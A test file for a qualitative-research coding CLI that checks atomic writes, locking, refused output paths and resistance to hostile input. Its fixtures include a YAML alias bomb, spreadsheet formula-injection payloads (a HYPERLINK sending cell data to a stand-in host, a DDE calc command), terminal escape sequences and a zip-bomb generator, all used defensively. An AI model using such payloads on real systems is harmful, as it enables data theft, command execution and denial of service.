/**
 * What a careful tester does to a study — hand-edited files, held locks, two commands at once,
 * outputs aimed at the study's own files, protected files — and what the researcher's data must
 * look like afterwards: unchanged, or completely updated; never half-written, never lost.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { chmodSync, existsSync, readFileSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { cleanTemps, copyStudy, DEMO, runCli, runCliAsync, smallSheet, snapshot, tempDir } from './helpers.js';
import { zipArchive } from './zip-archive.js';

afterAll(cleanTemps);

const SHEET = join(DEMO, '.source/edited-quotes.csv');

function editLines(file: string, change: (lines: string[]) => void): void {
  const lines = readFileSync(file, 'utf8').split('\n');
  change(lines);
  writeFileSync(file, lines.join('\n'));
}

/** Index (0-based) of the n-th segment line of a coder file. */
function segmentLine(lines: string[], n: number): number {
  return lines.map((l, i) => [l, i] as const).filter(([l]) => l.startsWith('  - {'))[n]![1];
}

/** Kills a process and waits until it is gone. */
async function kill(child: ChildProcess): Promise<void> {
  if (child.exitCode !== null || child.signalCode !== null) return;
  const gone = new Promise((resolve) => child.once('exit', resolve));
  child.kill('SIGKILL');
  await gone;
}

/** A process that holds the lock of `file` (as a running codage does) until killed. */
async function holdLock(file: string): Promise<ChildProcess> {
  const script = `
    const fs = require('node:fs');
    fs.writeFileSync(process.argv[1], JSON.stringify({ pid: process.pid, host: ${JSON.stringify(hostname())}, since: new Date().toISOString(), command: 'codage code' }) + '\\n');
    process.stdout.write('held\\n');
    setInterval(() => {}, 1000);`;
  const child = spawn(process.execPath, ['-e', script, `${file}.lock`], { stdio: ['ignore', 'pipe', 'inherit'] });
  await new Promise((resolve) => child.stdout!.once('data', resolve));
  return child;
}

describe('a writer never rewrites a file it did not fully read', () => {
  const cases: [string, (file: string) => number][] = [
    [
      'a segment line indented with a tab',
      (file) => {
        let line = 0;
        editLines(file, (lines) => {
          line = segmentLine(lines, 4);
          lines[line] = `\t${lines[line]!.slice(2)}`;
        });
        return line + 1;
      },
    ],
    [
      'a YAML alias bomb',
      (file) => {
        let bomb = 'lol0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n';
        for (let i = 1; i < 9; i++) bomb += `lol${i}: &a${i} [${Array(9).fill(`*a${i - 1}`).join(', ')}]\n`;
        writeFileSync(file, readFileSync(file, 'utf8').replace('segments:\n', `${bomb}segments:\n`));
        return readFileSync(file, 'utf8').split('\n').findIndex((l) => l.startsWith('lol1:')) + 1;
      },
    ],
    [
      'a malformed memos: block',
      (file) => {
        // A memo written as a list: rewriting would turn it into other text.
        writeFileSync(file, readFileSync(file, 'utf8').replace(/^ {2}MG1: (".*")$/m, '  MG1:\n    - $1\n    - "relire"'));
        return readFileSync(file, 'utf8').split('\n').indexOf('  MG1:') + 1;
      },
    ],
  ];

  it.each(cases)('import-codings --append refuses a coder file with %s, naming where, and changes nothing', (_what, plant) => {
    const dir = copyStudy();
    const line = plant(join(dir, 'codings/marie.yaml'));
    const before = snapshot(dir);
    const r = runCli(['import-codings', SHEET, '--coder', 'marie', '--append', '--study', dir, '--lang', 'en']);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(new RegExp(`^codings/marie\\.yaml:${line}:\\d+: error: codings/marie\\.yaml cannot be read completely, so codage will not rewrite it`));
    expect(r.stderr).toContain('Nothing was changed.');
    expect(snapshot(dir)).toEqual(before);
  });

  it('check reports a key written twice in a segment line, at its line, as for the codebook', () => {
    const dir = copyStudy();
    let line = 0;
    editLines(join(dir, 'codings/marie.yaml'), (lines) => {
      line = segmentLine(lines, 2);
      lines[line] = lines[line]!.replace(/\}$/, ', "start": 0}');
    });
    const r = runCli(['check', '--study', dir, '--json']);
    expect(r.code).toBe(1);
    const problems = (JSON.parse(r.stdout) as { problems: { file: string; line: number; kind: string; message: string }[] }).problems;
    expect(problems).toContainEqual(expect.objectContaining({ file: 'codings/marie.yaml', line: line + 1, kind: 'yaml-syntax' }));
  });
});

describe('a change of several files is all or nothing', () => {
  it('import-codings: with the coder file locked, codebook.yaml does not get the new codes', async () => {
    const dir = copyStudy();
    const holder = await holdLock(join(dir, 'codings/marie.yaml'));
    try {
      const before = snapshot(dir);
      const r = runCli(['import-codings', smallSheet(), '--coder', 'marie', '--append', '--study', dir, '--lang', 'en']);
      expect(r.code).toBe(1);
      expect(r.stderr).toContain(`codings/marie.yaml is being written by another codage (pid ${holder.pid}, codage code`);
      expect(snapshot(dir)).toEqual(before);
      expect(readFileSync(join(dir, 'codebook.yaml'), 'utf8')).not.toContain('Consultation redoutée');
    } finally {
      await kill(holder);
    }
  });

  it('check --fix: with codebook.yaml locked, no re-anchored coder file is saved either', async () => {
    const dir = copyStudy();
    const transcript = join(dir, 'transcripts/MG1.txt');
    // A typo fixed near the start of MG1 moves every later segment of both coders.
    writeFileSync(transcript, readFileSync(transcript, 'utf8').replace("Bonjour, et merci d'avoir accepté", "Bonjour, et merci beaucoup d'avoir accepté"));
    writeFileSync(join(dir, 'codebook.yaml'), readFileSync(join(dir, 'codebook.yaml'), 'utf8').replace(/\n( +)id: impuissance\n/, '\n'));
    const holder = await holdLock(join(dir, 'codebook.yaml'));
    try {
      const before = snapshot(dir);
      const r = runCli(['check', '--fix', '--study', dir, '--lang', 'en']);
      expect(r.code).toBe(1);
      expect(r.stderr).toContain('codebook.yaml is being written by another codage');
      expect(snapshot(dir)).toEqual(before);
    } finally {
      await kill(holder);
    }
    // Once the lock is free, both are saved together.
    const fixed = runCli(['check', '--fix', '--study', dir, '--lang', 'en']);
    expect(fixed.stdout).toMatch(/✓ codings\/marie\.yaml: saved \d+ re-anchored segment\(s\)/);
    expect(fixed.stdout).toMatch(/✓ codings\/paul\.yaml: saved \d+ re-anchored segment\(s\)/);
    expect(fixed.stdout).toMatch(/✓ codebook\.yaml: added \d+ id\(s\)/);
    expect(fixed.stderr).toContain('codebook.yaml.lock was left by a codage that stopped');
  });
});

describe('outputs never overwrite the study’s own data', () => {
  it.each(['codings/marie.yaml', 'Codings/Marie.yaml', 'codebook.yaml', 'CODAGE.YAML', 'participants.csv', 'transcripts/segments.csv', '.codage/segments.csv', 'codings/new.csv', 'README.md', 'readme.md'])(
    'segments -o %s is refused, and nothing is written',
    (output) => {
      const dir = copyStudy();
      const before = snapshot(dir);
      const r = runCli(['segments', '--study', dir, '-o', output, '--lang', 'en'], { cwd: dir });
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(new RegExp(`^error: -o ${output.replace('.', '\\.')} is .* of the study .*: codage never writes its output over the study's data\\n`));
      expect(snapshot(dir)).toEqual(before);
    },
  );

  it.skipIf(process.platform === 'win32')('follows symbolic links: a link to a coder file is refused too', () => {
    const dir = copyStudy();
    const link = join(tempDir(), 'segments.csv');
    symlinkSync(join(dir, 'codings/marie.yaml'), link);
    const before = snapshot(dir);
    const r = runCli(['segments', '--study', dir, '-o', link, '--lang', 'en']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('(codings/marie.yaml)');
    expect(snapshot(dir)).toEqual(before);
  });

  it('saturation --csv and --figure, and export -o, into the study’s data are refused too', () => {
    const dir = copyStudy();
    const before = snapshot(dir);
    for (const [command, ...args] of [['saturation', '--csv', 'codings/saturation.csv'], ['saturation', '--figure', 'transcripts/courbe.svg'], ['export', 'themes', '-o', 'codebook.yaml']] as string[][]) {
      const r = runCli([command!, '--study', dir, ...args, '--lang', 'en'], { cwd: dir });
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stderr).toMatch(/(--csv codings\/saturation\.csv|--figure transcripts\/courbe\.svg) is in the|-o codebook\.yaml is the codebook/);
    }
    expect(snapshot(dir)).toEqual(before);
  });

  it('import-codings --review codings/paul.yaml is refused before anything is imported', () => {
    const dir = copyStudy();
    const before = snapshot(dir);
    const r = runCli(['import-codings', SHEET, '--coder', 'nouveau', '--study', dir, '--review', join(dir, 'codings/paul.yaml'), '--lang', 'en']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('is in the coder files of the study (codings/paul.yaml)');
    expect(snapshot(dir)).toEqual(before);
  });

  it('writes a file elsewhere in the study folder, as before', () => {
    const dir = copyStudy();
    const r = runCli(['segments', '--study', dir, '-o', 'segments.csv', '--lang', 'en'], { cwd: dir });
    expect(r.code).toBe(0);
    expect(readFileSync(join(dir, 'segments.csv'), 'utf8')).toMatch(/^coder,participant,segment,/);
  });
});

describe('two imports started together', () => {
  it('the second one decides under the lock: it refuses to mix instead of merging into the first', async () => {
    const dir = copyStudy();
    const [a, b] = await Promise.all([
      runCliAsync(['import-codings', SHEET, '--coder', 'nouveau', '--study', dir, '--lang', 'en', '--json']),
      runCliAsync(['import-codings', SHEET, '--coder', 'nouveau', '--study', dir, '--lang', 'en', '--json']),
    ]);
    expect([a.code, b.code].sort()).toEqual([0, 2]);
    const refused = a.code === 2 ? a : b;
    const done = a.code === 0 ? a : b;
    expect(refused.stderr).toMatch(/codings\/nouveau\.yaml already holds \d+ segment\(s\)/);
    const written = (JSON.parse(done.stdout) as { segmentsWritten: number }).segmentsWritten;
    const segments = readFileSync(join(dir, 'codings/nouveau.yaml'), 'utf8').split('\n').filter((l) => l.startsWith('  - {'));
    expect(segments).toHaveLength(written);
  }, 60_000);
});

describe('a lock left behind by a crash', () => {
  it('an empty lock file a minute old no longer blocks: it is taken over, and the user is told in the study’s language', () => {
    const dir = copyStudy();
    const lock = join(dir, 'codebook.yaml.lock');
    writeFileSync(lock, '');
    const old = new Date(Date.now() - 60_000);
    utimesSync(lock, old, old);
    const r = runCli(['import-codings', smallSheet(), '--coder', 'nouveau', '--study', dir]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain('note\u00a0: codebook.yaml.lock était illisible et datait de 1\u00a0minute, laissé par un codage arrêté brutalement\u00a0: repris.');
    expect(readFileSync(join(dir, 'codebook.yaml'), 'utf8')).toContain('Consultation redoutée');
    expect(existsSync(lock)).toBe(false);
  });
});

describe('a protected or interrupted study file', () => {
  it.skipIf(process.platform === 'win32')('a read-only coder file (0444) is not replaced: exit 1, and nothing else changes', () => {
    const dir = copyStudy();
    chmodSync(join(dir, 'codings/marie.yaml'), 0o444);
    const before = snapshot(dir);
    const r = runCli(['import-codings', smallSheet(), '--coder', 'marie', '--append', '--study', dir]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('erreur\u00a0: Impossible d’écrire codings/marie.yaml\u00a0: le fichier est en lecture seule');
    expect(r.stderr).toContain('Rien n’a été modifié.');
    expect(snapshot(dir)).toEqual(before);
    expect(statSync(join(dir, 'codings/marie.yaml')).mode & 0o777).toBe(0o444);
  });

  it('check reports the temporary files a killed writer left, and check --fix removes them', () => {
    const dir = copyStudy();
    const temp = join(dir, 'codings/.marie.yaml.4194321.0a1b2c3d.tmp');
    writeFileSync(temp, 'version: 1\ncoder: mar');
    const old = new Date(Date.now() - 3_600_000);
    utimesSync(temp, old, old);
    const r = runCli(['check', '--study', dir, '--lang', 'en']);
    expect(r.stdout).toContain('codings/.marie.yaml.4194321.0a1b2c3d.tmp: warning: temporary file left by a codage that stopped while writing (pid 4194321)');
    const fixed = runCli(['check', '--fix', '--study', dir, '--lang', 'en']);
    expect(fixed.stdout).toContain('✓ removed 1 temporary file(s) left by a crash');
    expect(existsSync(temp)).toBe(false);
  });
});

describe('import-codings --dry-run', () => {
  it('writes nothing in the study, not even the review file, unless --review says where', () => {
    const dir = copyStudy();
    const before = snapshot(dir);
    const sheet = smallSheet();
    const r = runCli(['import-codings', sheet, '--coder', 'nouveau', '--study', dir, '--dry-run', '--lang', 'en']);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('Dry run: nothing was written. For the row-by-row review, add --review FILE.');
    expect(snapshot(dir)).toEqual(before);
    expect(existsSync(join(dir, '.codage'))).toBe(false);
    const review = join(tempDir(), 'revue.csv');
    const withReview = runCli(['import-codings', sheet, '--coder', 'nouveau', '--study', dir, '--dry-run', '--review', review, '--lang', 'en']);
    expect(withReview.code).toBe(0);
    expect(readFileSync(review, 'utf8')).toMatch(/^\ufeffrow,participant,code,quote,status/);
    expect(snapshot(dir)).toEqual(before);
  });
});

describe('hostile text never runs as a formula in a spreadsheet', () => {
  it('segments csv, tsv and excel: a code, a theme and a memo written as formulas are read as text; --json keeps them exact', () => {
    const dir = copyStudy();
    const codebook = join(dir, 'codebook.yaml');
    writeFileSync(codebook, readFileSync(codebook, 'utf8').replace('- name: Impuissance', "- name: '=HYPERLINK(\"http://x.example/?\"&A1,\"voir\")'").replace('- name: Vécu du médecin', "- name: '@SUM(1+1)'"));
    editLines(join(dir, 'codings/paul.yaml'), (lines) => {
      const i = segmentLine(lines, 0);
      lines[i] = lines[i]!.replace(/\}$/, ', "memo": "+cmd|\' /C calc\'!A0\\rsuite"}');
    });
    for (const format of ['csv', 'tsv', 'excel']) {
      const r = runCli(['segments', '--study', dir, '--code', 'impuissance', '--format', format]);
      expect(r.code).toBe(0);
      const delimiter = format === 'tsv' ? '\t' : format === 'excel' ? ';' : ',';
      const cells = r.stdout.replace(/^\ufeff/, '').split(/\r?\n/).slice(1, -1).flatMap((line) => line.split(delimiter));
      expect(cells.length).toBeGreaterThan(0);
      for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r-]/);
      expect(r.stdout).toContain(`'=HYPERLINK(`);
      expect(r.stdout).toContain(`'@SUM(1+1)`);
    }
    const memo = runCli(['segments', '--study', dir, '--coder', 'paul', '--format', 'csv']);
    expect(memo.stdout).toContain(`"'+cmd|' /C calc'!A0\rsuite"`);
    const json = JSON.parse(runCli(['segments', '--study', dir, '--json']).stdout) as { code: string; theme: string; memo: string }[];
    expect(json.some((row) => row.code === '=HYPERLINK("http://x.example/?"&A1,"voir")')).toBe(true);
    expect(json.some((row) => row.theme.startsWith('@SUM(1+1)'))).toBe(true);
    expect(json.some((row) => row.memo === "+cmd|' /C calc'!A0\rsuite")).toBe(true);
  });

  it('the import review: a quote or a code written as a formula is read as text', () => {
    const dir = copyStudy();
    const sheet = join(tempDir(), 'hostile.csv');
    writeFileSync(sheet, 'Participant;Code;Verbatim\nMG1;=1+1;"=HYPERLINK(""http://x.example"")"\nMG1;-Impuissance;"@SUM(A1)"\n');
    const review = join(tempDir(), 'review.csv');
    const r = runCli(['import-codings', sheet, '--coder', 'nouveau', '--study', dir, '--review', review, '--lang', 'en']);
    expect(r.code).toBe(0);
    const lines = readFileSync(review, 'utf8').replace(/^\ufeff/, '').split('\n');
    expect(lines[1]).toMatch(/^2,MG1,'=1\+1,"'=HYPERLINK\(""http:\/\/x\.example""\)",/);
    expect(lines[2]).toMatch(/^3,MG1,'-Impuissance,'@SUM\(A1\),/);
  });
});

describe('hostile text never acts on the terminal', () => {
  const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

  function hostileStudy(): string {
    const dir = copyStudy();
    const codebook = join(dir, 'codebook.yaml');
    writeFileSync(codebook, readFileSync(codebook, 'utf8').replace('- name: Impuissance', '- name: "Impuissance\\e]0;pwned\\a\\e[2J"'));
    const transcript = join(dir, 'transcripts/MG2.txt');
    const text = readFileSync(transcript, 'utf8');
    writeFileSync(transcript, text.startsWith('---\n') ? text.replace(/^---\n/, '---\nid: "MG2\\u202e1GM"\n').replace(/^id: MG2\n/m, '') : `---\nid: "MG2\\u202e1GM"\n---\n${text}`);
    writeFileSync(join(dir, 'codings/intrus\u0007.yaml'), 'version: 1\ncoder: intrus\nsegments: []\n');
    return dir;
  }

  it('check, stats and segments show control and bidirectional characters escaped, and check warns about them', () => {
    const dir = hostileStudy();
    const check = runCli(['check', '--study', dir, '--lang', 'en']);
    expect(check.stdout).not.toMatch(RAW);
    expect(check.stdout).toContain('codebook.yaml:');
    expect(check.stdout).toMatch(/warning: The code name "Impuissance\\x1b\]0;pwned\\x07\\x1b\[2J" holds control or bidirectional characters \(\\x1b \\x07\)/);
    expect(check.stdout).toMatch(/warning: The participant id "MG2\\u202e1GM" holds control or bidirectional characters/);
    expect(check.stdout).toMatch(/codings\/intrus\\x07\.yaml: warning: The coder name "intrus\\x07" holds/);
    for (const args of [['stats'], ['stats', '--by', 'group'], ['check', '--json'], ['stats', '--json'], ['segments', '--json'], ['saturation'], ['saturation', '--json']]) {
      const r = runCli([...args, '--study', dir, '--lang', 'en']);
      expect(r.stdout, args.join(' ')).not.toMatch(RAW);
      expect(r.stderr, args.join(' ')).not.toMatch(RAW);
    }
    const stats = runCli(['stats', '--study', dir, '--lang', 'en']).stdout;
    expect(stats).toContain('Impuissance\\x1b]0;pwned\\x07\\x1b[2J');
    expect(stats).toContain('MG2\\u202e1GM');
    // JSON stays the same data: a JSON reader gets the exact name back.
    const json = JSON.parse(runCli(['stats', '--study', dir, '--json']).stdout) as { tree: { name: string }[] };
    expect(json.tree.map((row) => row.name)).toContain('Impuissance\u001b]0;pwned\u0007\u001b[2J');
  });

  it('an error message naming a hostile participant is escaped too', () => {
    const dir = hostileStudy();
    const r = runCli(['segments', '--study', dir, '--participant', 'X\u001b[2J', '--lang', 'en']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('no transcript for participant "X\\x1b[2J"');
    expect(r.stderr).not.toMatch(RAW);
  });
});

describe('a file in transcripts/ that is not text', () => {
  it('is reported as an error and not counted as a participant', () => {
    const dir = copyStudy();
    // A program renamed .txt (this very Node binary's first 64 KB), and a Word document renamed .txt.
    writeFileSync(join(dir, 'transcripts/MG11.txt'), readFileSync(process.execPath).subarray(0, 65536));
    writeFileSync(join(dir, 'transcripts/MG12.txt'), Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00]), Buffer.from('[Content_Types].xml word/document.xml')]));
    const r = runCli(['check', '--study', dir, '--lang', 'en']);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/transcripts\/MG11\.txt: error: this file is not a text transcript: it looks like (a program|binary data, not text)\. It is left out of the study\./);
    expect(r.stdout).toContain('transcripts/MG12.txt: error: this file is not a text transcript: it looks like a Word, LibreOffice or Excel document (a zip archive).');
    expect(r.stdout).toContain('open it in Word and save it as "Plain Text (.txt)"');
    expect(r.stdout).toContain('12 transcript(s)');
    const stats = JSON.parse(runCli(['stats', '--study', dir, '--json']).stdout) as { transcripts: number };
    expect(stats.transcripts).toBe(12);
  });
});

describe('a zip bomb sent as a spreadsheet', () => {
  /** A one-entry .xlsx whose worksheet is `size` bytes of zeros, declaring `declared` bytes. */
  function bomb(size: number, declared: number): string {
    const file = join(tempDir(), 'codage.xlsx');
    writeFileSync(file, zipArchive([{ name: 'xl/worksheets/sheet1.xml', content: Buffer.alloc(size), declaredSize: declared }]));
    return file;
  }

  it.each([
    ['declares 3 GB', 64 * 1024, 3 * 1024 ** 3],
    ['declares 1 KB but expands to 128 MB', 128 * 1024 * 1024, 1024],
  ])('is refused with a clear message when it %s, and nothing is written', (_what, size, declared) => {
    const dir = copyStudy();
    const before = snapshot(dir);
    const r = runCli(['import-codings', bomb(size, declared), '--coder', 'nouveau', '--study', dir, '--lang', 'en']);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/codage\.xlsx: error: codage\.xlsx would expand to more than 64 MB once unzipped \(an \.xlsx is a zip archive; .*\): codage does not open it, to protect your computer's memory\./);
    expect(r.stderr).toContain('save it as "CSV (semicolon)"');
    expect(snapshot(dir)).toEqual(before);
  });
});
